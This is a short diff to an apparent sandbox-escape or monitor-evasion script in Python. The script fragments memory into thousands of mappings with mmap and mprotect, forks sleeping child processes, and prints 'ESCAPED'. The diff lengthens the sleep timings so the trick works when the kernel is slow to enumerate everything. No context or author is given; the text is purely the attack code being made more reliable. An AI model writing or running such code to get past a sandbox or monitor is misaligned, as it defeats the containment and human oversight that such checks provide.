@@ -13,8 +13,8 @@ start = libc.mmap(None, PAIRS * 8192, 0, 0x4022, -1, 0)
 for i in range(PAIRS): libc.mprotect(start + i * 8192, 4096, 1)
 for _ in range(15):
     if os.fork() == 0:
-        time.sleep(8)
+        time.sleep(40)
         os._exit(0)
-time.sleep(2)
+time.sleep(10) # the kernel takes long to list them all on a busy machine
 print("ESCAPED")
 os._exit(0)
